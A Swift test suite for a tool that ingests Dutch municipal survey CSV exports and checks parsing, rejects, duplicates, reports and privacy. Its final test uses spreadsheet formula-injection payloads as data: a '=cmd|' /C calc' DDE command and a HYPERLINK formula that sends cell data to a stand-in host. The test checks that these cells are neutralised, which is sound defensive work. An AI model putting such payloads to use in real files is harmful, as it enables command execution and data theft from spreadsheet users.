import Configuration
import Core
import Foundation
import Support
import Testing
@testable import Ingest
import TestFixtures
import TableFiles

@Suite struct SurveyIngestTests {
    static let mapping = """
        year: 2012
        model: meetlat-2012
        export:
          file: export-2012.csv
        respondent:
          gemeente: "Naam van uw gemeente"
          timestamp:
            column: "Ingevuld op"
            format: "dd-MM-yyyy HH:mm[:ss]"
          private: ["Naam", "E-mailadres"]
          remarks: ["Opmerkingen"]
          ignore: ["IP-adres"]
        fields:
          followers.twitter:
            type: number
            column: "Aantal volgers Twitter"
          usage.informeren:
            type: choice
            column: "Burgers informeren"
            labels:
              "Niet of nauwelijks": niet
              "Soms": soms
              "Regelmatig tot vaak": vaak
            missing: ["Weet niet"]
          channels:
            type: multi
            columns:
              linkedin: "Kanalen - LinkedIn"
              twitter: "Kanalen - Twitter"
          users:
            type: multi
            column: "Wie gebruikt sociale media?"
            separator: ", "
            labels: { "Raadsleden": raadsleden, "Communicatie": communicatie, "Directie, college": directie }

        """

    static let header = "Naam;E-mailadres;Naam van uw gemeente;Ingevuld op;Aantal volgers Twitter;Burgers informeren;Kanalen - LinkedIn;Kanalen - Twitter;Wie gebruikt sociale media?;Opmerkingen;IP-adres;Extra"

    /// A Dutch Excel export (Windows-1252, `;`, CRLF) with the messes real exports hold.
    static let rows = [
        header,
        "Jan;jan@example.nl;Den Bosch;14-05-2012 09:31;1.212;Soms;ja;;Raadsleden, Directie, college;\"Goed; \"\"echt\"\"\r\ntweede regel\";1.2.3.4;",  // 2
        "Piet;p@example.nl;Gemeente Hoorn;14-05-2012 09:31;ca. 300;Regelmatig tot vaak;;1;Communicatie;;;",                         // 3 loses to 4
        "Piet;p@example.nl;HOORN ;15-05-2012 08:00:10;4,19;soms;nee;0;;;;",                                                            // 4
        ";;;;;;;;;;;",                                                                                                                 // 5 empty
        "Kees;k@example.nl;Hoorm;15-05-2012 09:31;1;Soms;;;;;;",                                                                       // 6
        "Kees;k@example.nl;;15-05-2012 09:31;1;Soms;;;;;;",                                                                            // 7 anonymous
        "Kees;k@example.nl;Sudwest Fryslan;;onbekend;Soms;;;;;",                                                                      // 8 ragged
        "Kees;k@example.nl;Súdwest-Fryslân;31-02-2012 10:00;1;Soms;;;;;;",                                                            // 9
        "Kees;k@example.nl;Súdwest-Fryslân;01-05-2012 10:00;veel;Vaak;;;Raadsleden, Burgemeester;café ’s avonds;;",                   // 10
        "Kees;k@example.nl;Súdwest-Fryslân;;onbekend;Weet niet;;;n.v.t.;;;",                                                          // 11 loses to 12
        "Kees;k@example.nl;Sudwest Fryslan;;± 250;;;;;;;",                                                                            // 12
        "A;a@example.nl;Amsterdam;02-05-2012 10:00;10.000;Soms;;ja;;;;",                                                               // 13 loses to 14
        "A;a@example.nl;amsterdam;02-05-2012 10:00;12.000;Soms;;ja;;;;",                                                               // 14
        "A;a@example.nl;AMSTERDAM;;13.000;Soms;;ja;;;;",                                                                               // 15 loses to 14
    ]

    /// A survey folder in a temporary folder that lives as long as the fixture.
    final class Fixture {
        let folder: TestFolder
        let survey: SurveyFolder
        let reference: Reference

        init(mapping: String, export: [UInt8]) throws {
            folder = try TestFolder()
            try folder.writeReference()
            try folder.write("2012/mapping.yaml", mapping)
            try folder.write("2012/export-2012.csv", bytes: export)
            survey = SurveyFolder(folder.url)
            reference = try survey.reference()
        }

        func ingest(year: Int = 2012, strict: Bool = false) throws -> SurveyYear {
            try survey.ingest(year: year, reference: reference, strict: strict)
        }
    }

    static func survey(mapping: String = mapping,
                       export: [UInt8] = windows1252(rows.joined(separator: "\r\n") + "\r\n")) throws -> Fixture {
        try Fixture(mapping: mapping, export: export)
    }

    @Test func everyRowIsAcceptedOrRejectedWithItsReason() throws {
        let survey = try Self.survey()
        #expect(try survey.survey.years() == [2012])
        let year = try survey.ingest(year: 2012)
        let report = year.report

        #expect(report.file == "2012/export-2012.csv")
        #expect(report.encoding == "windows-1252 (detected)")
        #expect(report.delimiter == "\";\" (semicolon) (detected)")
        #expect(report.rowsRead == 13)
        #expect(report.accepted == 4)
        #expect(report.rejected == [.duplicate: 4, .unknownGemeente: 1, .anonymous: 1, .raggedRow: 1, .invalidTimestamp: 1, .invalidNumber: 1])
        #expect(report.isBalanced)
        #expect(report.anonymous == 1 && report.duplicates == 4)
        #expect(report.approximateNumbers == 1)
        #expect(report.remarksRead == 2)
        #expect(report.warnings == [
            "column 12 \"Extra\" is neither mapped nor ignored (list it under respondent.ignore if it is not needed)",
            "1 empty row skipped (row 5)",
        ])
        #expect(year.model == "meetlat-2012")
        #expect(try year.rejects.map(\.row) == [3, 6, 7, 8, 9, 10, 11, 13, 15])
        #expect(try year.rejects.map(\.reason) == [.duplicate, .unknownGemeente, .anonymous, .raggedRow, .invalidTimestamp,
                                               .invalidNumber, .duplicate, .duplicate, .duplicate])
    }

    @Test func acceptedResponsesHoldCanonicalValuesAndNoPersonalData() throws {
        let survey = try Self.survey()
        let year = try survey.ingest(year: 2012)
        #expect(year.responses.map(\.gemeente) == ["GM0363", "GM0405", "GM0796", "GM1900"])
        #expect(year.responses.map(\.row) == [14, 4, 2, 12])

        let bosch = try #require(year.responses.first { $0.gemeente == "GM0796" })
        #expect(bosch == Response(gemeente: "GM0796", row: 2, submittedAt: "2012-05-14T09:31:00", values: [
            "followers.twitter": .number(1212, approximate: false),
            "usage.informeren": .choice("soms"),
            "channels": .selection(["linkedin"]),
            "users": .selection(["raadsleden", "directie"]),
        ]))
        let hoorn = try #require(year.responses.first { $0.gemeente == "GM0405" })
        #expect(hoorn.values["followers.twitter"] == .number(4.19, approximate: false))
        #expect(hoorn.values["channels"] == .selection([]))     // "nee" and "0" mean not chosen
        #expect(hoorn.values["users"] == .selection([]))
        let fryslan = try #require(year.responses.first { $0.gemeente == "GM1900" })
        #expect(fryslan.submittedAt == nil)
        #expect(fryslan.values == [
            "followers.twitter": .number(250, approximate: true),
            "usage.informeren": .missing,
            "channels": .selection([]),
            "users": .selection([]),
        ])
        // Only mapped fields reach a response: no name, e-mail, remark or IP address.
        for response in year.responses {
            #expect(Set(response.values.keys) == ["followers.twitter", "usage.informeren", "channels", "users"])
        }
        let encoded = String(decoding: try JSONEncoder().encode(year.responses), as: UTF8.self)
        for secret in ["example.nl", "Jan", "Goed", "1.2.3.4", "café"] { #expect(!encoded.contains(secret)) }
    }

    @Test func rejectMessagesNameRowColumnWhatWasFoundAndWhatIsExpected() throws {
        let survey = try Self.survey()
        let messages = Dictionary(uniqueKeysWithValues: try survey.ingest(year: 2012).rejects.map { ($0.row, $0.message) })
        #expect(messages[3] == "2012/export-2012.csv, row 3: Hoorn (GM0405) answered again in row 4, which is used: it was submitted later (2012-05-15T08:00:10, this row 2012-05-14T09:31:00)")
        #expect(messages[6] == "2012/export-2012.csv, row 6: column \"Naam van uw gemeente\": \"Hoorm\" is not a gemeente of 2012; closest names: Hoorn, 's-Hertogenbosch, Amsterdam")
        #expect(messages[7] == "2012/export-2012.csv, row 7: no gemeente named in column \"Naam van uw gemeente\"; counted as anonymous")
        #expect(messages[8] == "2012/export-2012.csv, row 8: row too short: 11 fields, but the header has 12; a delimiter is missing or extra in this row")
        #expect(messages[9] == "2012/export-2012.csv, row 9: column \"Ingevuld op\": \"31-02-2012 10:00\" is not a timestamp of the form dd-MM-yyyy HH:mm[:ss]")
        #expect(messages[10] == "2012/export-2012.csv, row 10: column \"Aantal volgers Twitter\" (field followers.twitter): \"veel\" is not a number; expected \(DutchNumber.acceptedForms); also column \"Burgers informeren\" (field usage.informeren): unknown label \"Vaak\"; allowed labels: \"Niet of nauwelijks\", \"Soms\", \"Regelmatig tot vaak\" (empty, onbekend or n.v.t. for no answer); also column \"Wie gebruikt sociale media?\" (field users): unknown label \"Burgemeester\" in \"Raadsleden, Burgemeester\"; allowed labels: \"Raadsleden\", \"Communicatie\", \"Directie, college\", separated by \", \" (empty, onbekend or n.v.t. for no answer)")
        #expect(messages[11] == "2012/export-2012.csv, row 11: Súdwest-Fryslân (GM1900) answered again in row 12, which is used: without timestamps the later row wins")
        #expect(messages[13] == "2012/export-2012.csv, row 13: Amsterdam (GM0363) answered again in row 14, which is used: both have the same timestamp, so the later row wins")
        #expect(messages[15] == "2012/export-2012.csv, row 15: Amsterdam (GM0363) answered again in row 14, which is used: this row has no timestamp and that row has one")
    }

    @Test func anUnknownLabelRejectsOnlyItsRow() throws {
        let export = [Self.header,
                      "A;a@example.nl;Hoorn;14-05-2012 09:31;1;Vaak;;;;;;",
                      "B;b@example.nl;Amsterdam;14-05-2012 09:31;2;Soms;;;;;;"].joined(separator: "\n")
        let survey = try Self.survey(export: Array(export.utf8))
        let year = try survey.ingest(year: 2012)
        #expect(year.responses.map(\.gemeente) == ["GM0363"])
        let reject = try #require(try year.rejects.first)
        #expect(reject.reason == .unknownLabel)
        #expect(reject.row == 2)
        #expect(reject.message == "2012/export-2012.csv, row 2: column \"Burgers informeren\" (field usage.informeren): unknown label \"Vaak\"; allowed labels: \"Niet of nauwelijks\", \"Soms\", \"Regelmatig tot vaak\" (empty, onbekend or n.v.t. for no answer)")
        #expect(reject.original == ["A", "a@example.nl", "Hoorn", "14-05-2012 09:31", "1", "Vaak", "", "", "", "", "", ""])
        #expect(year.report.encoding == "utf-8 (detected)")
    }

    @Test func joinedLabelsWithSemicolonsLabelsHoldingTheSeparatorAndOther() throws {
        let mapping = Self.mapping
            .replacingOccurrences(of: "separator: \", \"", with: "separator: \";\"\n    other: anders")
            .replacingOccurrences(of: "\"Directie, college\": directie", with: "\"Directie; college\": directie")
        let export = [Self.header.replacingOccurrences(of: ";", with: ","),
                      "A,,Hoorn,,,,,,\"Raadsleden;Directie; college ; communicatie\",,,",
                      "B,,Amsterdam,,,,,,Raadsleden; de burgemeester,,,",
                      "C,,Den Bosch,,,,,,onbekend,,,"].joined(separator: "\n")
        let survey = try Self.survey(mapping: mapping, export: Array(export.utf8))
        let year = try survey.ingest(year: 2012)
        #expect(year.report.delimiter == "\",\" (comma) (detected)")
        let users = Dictionary(uniqueKeysWithValues: year.responses.map { ($0.gemeente, $0.values["users"]) })
        #expect(users["GM0405"] == .selection(["raadsleden", "directie", "communicatie"]))
        #expect(users["GM0363"] == .selection(["raadsleden", "anders"]))
        #expect(users["GM0796"] == .missing)
    }

    @Test func optionColumnsUseTheConfiguredUnselectedValues() throws {
        let mapping = Self.mapping.replacingOccurrences(of: "      twitter: \"Kanalen - Twitter\"\n",
                                                        with: "      twitter: \"Kanalen - Twitter\"\n    unselected: [\"\", \"N\"]\n")
        let export = [Self.header,
                      "A;;Hoorn;;;;Y;N;;;;",
                      "B;;Amsterdam;;;;N;Twitter;;;;"].joined(separator: "\n")
        let survey = try Self.survey(mapping: mapping, export: Array(export.utf8))
        let channels = Dictionary(uniqueKeysWithValues: try survey.ingest(year: 2012).responses.map { ($0.gemeente, $0.values["channels"]) })
        #expect(channels["GM0405"] == .selection(["linkedin"]))
        #expect(channels["GM0363"] == .selection(["twitter"]))
    }

    @Test func skipRowsSkipsASecondHeaderRow() throws {
        let mapping = Self.mapping.replacingOccurrences(of: "  file: export-2012.csv\n", with: "  file: export-2012.csv\n  skip_rows: 1\n")
        let export = [Self.header, "Respondent;;Open vraag;;;;;;;;;", "A;;Hoorn;;5;;;;;;;"].joined(separator: "\n")
        let survey = try Self.survey(mapping: mapping, export: Array(export.utf8))
        let year = try survey.ingest(year: 2012)
        #expect(year.report.rowsRead == 1)
        #expect(year.responses.map(\.row) == [3])
    }

    // MARK: Years that cannot be used

    @Test func aHeaderOnlyExportHasNothingToIngest() throws {
        let survey = try Self.survey(export: Array((Self.header + "\r\n").utf8))
        let error = #expect(throws: IngestError.self) { try survey.ingest(year: 2012) }
        #expect(error?.description == "2012/export-2012.csv: the file has a header row but no answer rows; nothing to ingest")
        #expect(error?.surveyYear == nil)
    }

    @Test func aYearWithEveryRowRejectedFailsButKeepsItsRejects() throws {
        let export = [Self.header, ";;;;;;;;;;;x", "A;;Nergenshuizen;;;;;;;;;"].joined(separator: "\n")
        let survey = try Self.survey(export: Array(export.utf8))
        let error = #expect(throws: IngestError.self) { try survey.ingest(year: 2012) }
        let year = try #require(error?.surveyYear)
        #expect(year.report.rowsRead == 2 && year.report.accepted == 0 && year.report.isBalanced)
        #expect(error?.description == "2012/export-2012.csv: none of the 2 rows could be used (anonymous 1, unknown-gemeente 1); see the rejects")
    }

    @Test func strictFailsOnFaultsButNotOnAnonymousOrDuplicateRows() throws {
        let clean = [Self.header, "A;;Hoorn;;1;;;;;;;", "A;;Hoorn;;2;;;;;;;", "B;;;;3;;;;;;;"].joined(separator: "\n")
        let survey = try Self.survey(export: Array(clean.utf8))
        let year = try survey.ingest(year: 2012, strict: true)
        #expect(year.report.rejected == [.duplicate: 1, .anonymous: 1])

        let faulty = try Self.survey()
        let error = #expect(throws: IngestError.self) { try faulty.ingest(year: 2012, strict: true) }
        let failed = try #require(error?.surveyYear)
        #expect(failed.report.rowsRead == 13)
        #expect(error?.description.hasPrefix("2012/export-2012.csv: --strict: 4 rows were rejected for faults in the export (unknown-gemeente 1, invalid-number 1, ragged-row 1, invalid-timestamp 1); first: 2012/export-2012.csv, row 6: column \"Naam van uw gemeente\": \"Hoorm\"") == true)
    }

    @Test func aMappedColumnMissingFromTheExportNamesMappingFieldColumnAndSuggestions() throws {
        let export = Self.header.replacingOccurrences(of: "Burgers informeren", with: "Burgers  informeren (gemeente)") + "\nA;;Hoorn;;;;;;;;;"
        let survey = try Self.survey(export: Array(export.utf8))
        let error = #expect(throws: ConfigError.self) { try survey.ingest(year: 2012) }
        #expect(error?.description == "2012/mapping.yaml:17:3: fields.usage.informeren: column \"Burgers informeren\" is not in the header of 2012/export-2012.csv; did you mean `Burgers  informeren (gemeente)`?")
    }

    @Test func aMalformedExportStopsTheYearWithOneError() throws {
        let export = Self.header + "\nA;;Hoorn;;;\"open;;;;;;\n"
        let survey = try Self.survey(export: Array(export.utf8))
        let error = #expect(throws: CSVError.self) { try survey.ingest(year: 2012) }
        #expect(error?.kind == .unterminatedQuote(line: 2, offset: Self.header.utf8.count + 12))
        #expect(error?.description.hasPrefix("2012/export-2012.csv, row 2, column 6 (\"Burgers informeren\"): a quoted field opened on line 2") == true)
    }

    @Test(arguments: [
        ([UInt8](), CSVError.Kind.empty),
        (Array("\(header)\nA;;Hoorn;;;caf".utf8) + [0xE9, 0x81] + Array(";;;;;;\n".utf8),
         .invalidBytes(byte: 0x81, encoding: .windows1252, mixed: false)),
        (Array("\(header)\nA;;Hoorn;;\"1\"2;;;;;;;\n".utf8), .strayQuote(line: 2, offset: header.utf8.count + 14, found: UInt8(ascii: "2"))),
    ])
    func malformedExportsStopTheYearWithOneErrorThroughTheSurveyFolder(export: [UInt8], kind: CSVError.Kind) throws {
        let survey = try Self.survey(export: export)
        let error = #expect(throws: CSVError.self) { try survey.ingest(year: 2012) }
        #expect(error?.kind == kind)
        #expect(error?.file == "2012/export-2012.csv")
    }

    @Test func theMappingMustBeForItsFolder() throws {
        let survey = try Self.survey(mapping: Self.mapping.replacingOccurrences(of: "year: 2012", with: "year: 2013"))
        let error = #expect(throws: ConfigError.self) { try survey.ingest(year: 2012) }
        #expect(error?.description == "2012/mapping.yaml:1:7: year: says 2013, but the file is in folder 2012")
        #expect(throws: IngestError.self) { try survey.ingest(year: 2014) }
    }

    /// The one place every command picks its years: `--year` alone, or every year of the folder.
    @Test func yearsAreCheckedAgainstTheFolder() throws {
        let folder = try TestFolder()
        let surveys = SurveyFolder(folder.url)
        #expect(throws: YearSelectionError.noYears(folder: folder.url.path)) { try surveys.years(selecting: nil) }
        for year in [2012, 2011] { try folder.write("\(year)/mapping.yaml", "year: \(year)\n") }
        try folder.write("2013/export.csv", "no mapping, so not a survey year\n")
        #expect(try surveys.years(selecting: nil) == [2011, 2012])
        #expect(try surveys.years(selecting: 2012) == [2012])
        let error = #expect(throws: YearSelectionError.unknownYear(year: 2013, folder: folder.url.path, available: [2011, 2012])) {
            try surveys.years(selecting: 2013)
        }
        #expect(error?.description.hasSuffix("no survey year 2013 in \(folder.url.path) (no 2013/mapping.yaml); years found: 2011, 2012") == true)
    }

    // MARK: Output

    @Test func reportAndRejectsAreWrittenDeterministically() throws {
        let survey = try Self.survey()
        let year = try survey.ingest(year: 2012)
        // Beside the survey folder: an output inside an input is refused.
        let elsewhere = try TestFolder()
        let reports = elsewhere.url.appendingPathComponent("Reports")
        try year.writeReports(to: reports, inputs: [survey.survey.url])
        let text = try String(contentsOf: reports.appendingPathComponent("2012/ingest-report.txt"), encoding: .utf8)
        #expect(text == year.report.text(year: 2012))
        #expect(text.contains("\n  rows read            13\n  accepted              4\n  rejected              9\n    anonymous           1\n    duplicate           4\n"))
        #expect(text.contains("  balanced             yes (rows read = accepted + rejected)\n"))
        #expect(text.contains("    - 1 empty row skipped (row 5)\n"))

        let rejects = try String(contentsOf: reports.appendingPathComponent("2012/rejects.csv"), encoding: .utf8)
        let lines = rejects.split(separator: "\n", omittingEmptySubsequences: false)
        #expect(lines.first == "row,reason,message,Naam,E-mailadres,Naam van uw gemeente,Ingevuld op,Aantal volgers Twitter,Burgers informeren,Kanalen - LinkedIn,Kanalen - Twitter,Wie gebruikt sociale media?,Opmerkingen,IP-adres,Extra")
        #expect(lines[2].hasPrefix("6,unknown-gemeente,\"2012/export-2012.csv, row 6: column \"\"Naam van uw gemeente\"\": \"\"Hoorm\"\" is not a gemeente of 2012"))
        #expect(lines[2].hasSuffix(",Kees,k@example.nl,Hoorm,15-05-2012 09:31,1,Soms,,,,,,"))

        let again = try survey.ingest(year: 2012)
        #expect(try again.rejectsCSV == year.rejectsCSV)
        #expect(again.report.text(year: 2012) == text)
    }

    // MARK: Hostile cells (issue 19)

    /// rejects.csv keeps original rows, but a cell a spreadsheet would run (`=HYPERLINK(…)` typed
    /// as a gemeente's name, a header `=cmd|…`) is written as text; read back (libcsv), every
    /// cell's original is restored by `CSVWriter.originalCell`. A plain negative number stays.
    /// The report file shows control characters of the export visibly.
    @Test func formulaCellsInRejectsAreTextAndControlCharactersInTheReportAreVisible() throws {
        let header = "Naam;E-mailadres;Naam van uw gemeente;Ingevuld op;Aantal volgers Twitter;Burgers informeren;Kanalen - LinkedIn;Kanalen - Twitter;Wie gebruikt sociale media?;Opmerkingen;IP-adres;=cmd|' /C calc'!A0\u{1B}[2J"
        let hostile = ["@Jan", "-jan@example.nl", "\"=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"Hoorn\"\")\"", "14-05-2012 09:31", "-3",
                       "Soms", "", "", "", "+31 6 12345678", "", "=1+1"]
        let export = [header, "Jan;jan@example.nl;Hoorn;14-05-2012 09:31;1.212;Soms;ja;;;;;", hostile.joined(separator: ";")]
        let survey = try Self.survey(export: Array((export.joined(separator: "\r\n") + "\r\n").utf8))
        let year = try survey.ingest(year: 2012)
        #expect(try year.rejects.map(\.reason) == [.unknownGemeente])
        let reports = survey.folder.url.appendingPathComponent("Reports")
        try year.writeReports(to: reports, inputs: [])

        let read = survey.folder.readCSV("Reports/2012/rejects.csv")
        let rows = read.records.map(\.fields)
        #expect(read.error == nil && rows.count == 2)
        #expect(rows[0].last == "'=cmd|' /C calc'!A0\u{1B}[2J")
        let cells = Array(rows[1].dropFirst(3))
        #expect(cells[0] == "'@Jan" && cells[1] == "'-jan@example.nl" && cells[4] == "-3" && cells[9] == "'+31 6 12345678")
        #expect(cells[2] == "'=HYPERLINK(\"http://x.example/?\"&A1,\"Hoorn\")")
        #expect(try cells.map(CSVWriter.originalCell) == year.rejects[0].original)
        #expect(rows[0].map(CSVWriter.originalCell) == ["row", "reason", "message"] + year.report.columns)
        #expect(try year.rejects[0].original[2] == "=HYPERLINK(\"http://x.example/?\"&A1,\"Hoorn\")", "the reject keeps the cell as exported")

        let report = try String(contentsOf: reports.appendingPathComponent("2012/ingest-report.txt"), encoding: .utf8)
        #expect(report.contains(#"A0\u{1B}[2J" is neither mapped nor ignored"#))
        #expect(!report.unicodeScalars.contains("\u{1B}"))
    }
}
